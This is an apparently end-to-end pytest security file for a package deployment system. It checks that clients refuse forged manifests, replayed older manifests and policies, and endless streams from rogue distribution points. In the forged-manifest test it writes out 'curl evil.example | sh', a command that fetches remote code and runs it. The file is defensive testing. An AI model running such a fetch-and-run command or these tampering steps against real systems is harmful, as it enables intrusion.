"""Forged, replayed and endless metadata and content, with a real site and real clients.

The attacker sits on the wire (a proxy between the client and the site) or owns a DP host
(enrolled with a real token). Whatever it does, the client refuses with the catalog's
status message and the program never runs: its marker file never appears.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from quartermaster.core.hashing import sha256_bytes
from quartermaster.core.signing import SigningKey
from quartermaster.core.store_layout import manifest_path
from tests.conftest import ON_POSTGRESQL
from tests.e2e.processes import SiteServer, run_qm, wait_until
from tests.e2e.scenario import create_package, deploy_to, make_source, messages, run_client
from tests.integrity.wire import Answer, RogueDP, TamperingProxy

pytestmark = [pytest.mark.e2e, ON_POSTGRESQL]
JSON = {"Content-Type": "application/json"}


def _register(site_url: str, home: Path) -> str:
    return run_qm(
        "client", "register", "--home", str(home), "--site", site_url, "--hostname", home.name
    ).stdout.strip()


def _messages(site: SiteServer, client_id: str, message_id: int) -> list[dict[str, Any]]:
    return [m for m in messages(site, client=client_id) if m["message_id"] == message_id]


def _versions(site: SiteServer, package_id: str) -> list[str]:
    data = site.api("GET", f"/api/v1/packages/{package_id}")
    return [v["package_hash"] for v in sorted(data["versions"], key=lambda v: v["source_version"])]


def _nothing_fetched_or_run(site: SiteServer, client_id: str, client: Path) -> None:
    ids = {m["message_id"] for m in messages(site, client=client_id)}
    assert not ids & {10035, 10036, 10005, 10008}, sorted(ids)
    cached = [p for p in (client / "cache").rglob("*") if p.is_file()]
    assert cached == [], cached


def test_a_manifest_forged_on_the_wire_is_refused_and_nothing_runs(
    site: SiteServer, tmp_path: Path
) -> None:
    marker = tmp_path / "installed" / "payload.txt"
    package_id = create_package(site, make_source(tmp_path / "src", marker))
    forger = SigningKey.generate()

    def forge(method: str, path: str, upstream: httpx.Response) -> Answer | None:
        if "/manifests/" not in path or upstream.status_code != 200:
            return None
        signed = upstream.json()["signed"]
        for entry in signed["files"]:  # the attacker's own install script
            if entry["path"] == "install.sh":
                entry["sha256"] = sha256_bytes(b"curl evil.example | sh\n")
        return 200, JSON, json.dumps(forger.envelope(signed)).encode()

    proxy = TamperingProxy(site.url, [forge]).start()
    try:
        client = tmp_path / "client"
        client_id = _register(proxy.url, client)
        deploy_to(site, package_id, [client_id], "Lab")
        run_client(client)
    finally:
        proxy.stop()

    assert proxy.tampered, "the manifest never passed the proxy"
    [refused] = _messages(site, client_id, 10055)
    assert "not signed by a key this client trusts" in refused["insertion_strings"][4]
    _nothing_fetched_or_run(site, client_id, client)
    assert not marker.exists()


def test_an_older_versions_manifest_replayed_for_a_newer_policy_is_refused(
    site: SiteServer, tmp_path: Path
) -> None:
    marker = tmp_path / "installed" / "payload.txt"
    source = make_source(tmp_path / "src", marker, "version 1\n")
    package_id = create_package(site, source)
    (source / "payload.txt").write_text("version 2\n")
    site.qm("package", "update", package_id)
    old_hash, new_hash = _versions(site, package_id)
    old_envelope = manifest_path(site.home / "library", old_hash).read_bytes()

    def replay(method: str, path: str, upstream: httpx.Response) -> Answer | None:
        if path.endswith(f"/manifests/{new_hash}"):
            return 200, JSON, old_envelope  # genuinely signed, but of version 1
        return None

    proxy = TamperingProxy(site.url, [replay]).start()
    try:
        client = tmp_path / "client"
        client_id = _register(proxy.url, client)
        deploy_to(site, package_id, [client_id], "Lab")
        run_client(client)
    finally:
        proxy.stop()

    [refused] = _messages(site, client_id, 10055)
    assert refused["insertion_strings"][3] == "2"
    assert f"is not the package hash {new_hash}" in refused["insertion_strings"][4]
    _nothing_fetched_or_run(site, client_id, client)
    assert not marker.exists()


def test_an_older_policy_replayed_on_the_wire_is_refused_as_rollback(
    site: SiteServer, tmp_path: Path
) -> None:
    """The old policy still holds a deployment the administrator cancelled since."""
    marker = tmp_path / "installed" / "payload.txt"
    package_id = create_package(site, make_source(tmp_path / "src", marker))
    proxy = TamperingProxy(site.url).start()
    try:
        client = tmp_path / "client"
        client_id = _register(proxy.url, client)
        deployment_id = deploy_to(site, package_id, [client_id], "Lab")
        secret = (client / "secret").read_text().strip()
        captured = httpx.get(
            f"{site.url}/api/client/v1/policy",
            timeout=30,
            headers={"Authorization": f"Bearer {secret}"},
        )
        assert deployment_id in captured.text
        site.qm("deploy", "cancel", deployment_id)
        run_client(client)  # the current policy, without the cancelled deployment
        seen = json.loads((client / "client.json").read_text())["policy_serial"]
        assert seen > captured.json()["signed"]["serial"]

        proxy.rules.append(
            lambda method, path, upstream: (
                (200, JSON, captured.content) if path.startswith("/api/client/v1/policy") else None
            )
        )
        run_client(client)
    finally:
        proxy.stop()

    [refused] = _messages(site, client_id, 10061)
    assert "rollback" in refused["insertion_strings"][0]
    assert json.loads((client / "client.json").read_text())["policy_serial"] == seen
    _nothing_fetched_or_run(site, client_id, client)
    assert not marker.exists()


def _enroll_rogue(site: SiteServer, name: str, rogue: RogueDP, package_hashes: list[str]) -> None:
    """What a compromised DP host can do with its own credential: claim to hold content."""
    token = site.qm(
        "dp", "add", "--name", name, "--url", rogue.url, "--boundary", "127.0.0.0/8"
    ).stdout.strip()
    answer = httpx.post(
        f"{site.url}/api/dp/v1/enroll", json={"enrollment_token": token}, timeout=30
    ).json()
    auth = {"Authorization": f"Bearer {answer['credential']}"}
    contents = [{"package_hash": h, "state": "installed"} for h in package_hashes]
    httpx.post(
        f"{site.url}/api/dp/v1/report", json={"contents": contents}, headers=auth, timeout=30
    ).raise_for_status()


def test_endless_data_from_dps_is_cut_at_the_manifest_size_and_nothing_runs(
    site: SiteServer, tmp_path: Path
) -> None:
    marker = tmp_path / "installed" / "payload.txt"
    package_id = create_package(site, make_source(tmp_path / "src", marker))
    site.qm("package", "remove-dp", package_id, "--dp", "site")  # only the rogue DPs hold it
    [package_hash] = _versions(site, package_id)
    chunked, announced = RogueDP(), RogueDP(announce_length=10 * 1024**3)
    try:
        _enroll_rogue(site, "rogue-chunked", chunked, [package_hash])
        _enroll_rogue(site, "rogue-announced", announced, [package_hash])
        client = tmp_path / "client"
        client_id = _register(site.url, client)
        deploy_to(site, package_id, [client_id], "Lab")
        run_client(client)
    finally:
        chunked.stop()
        announced.stop()

    failures = {
        m["insertion_strings"][3]: m["insertion_strings"][4]
        for m in _messages(site, client_id, 10050)
    }
    assert "more than the manifest size" in failures["rogue-chunked"]
    assert "offers 10737418240 bytes" in failures["rogue-announced"]
    [gave_up] = _messages(site, client_id, 10051)
    assert "rogue-" in gave_up["insertion_strings"][4]
    assert chunked.requests and announced.requests
    wait_until(lambda: chunked.hung_up, "the client to hang up on the endless stream")
    leftovers = [p for p in (client / "cache").rglob("*") if p.is_file()]
    assert leftovers == [], leftovers
    ids = {m["message_id"] for m in messages(site, client=client_id)}
    assert 10005 not in ids and not marker.exists()
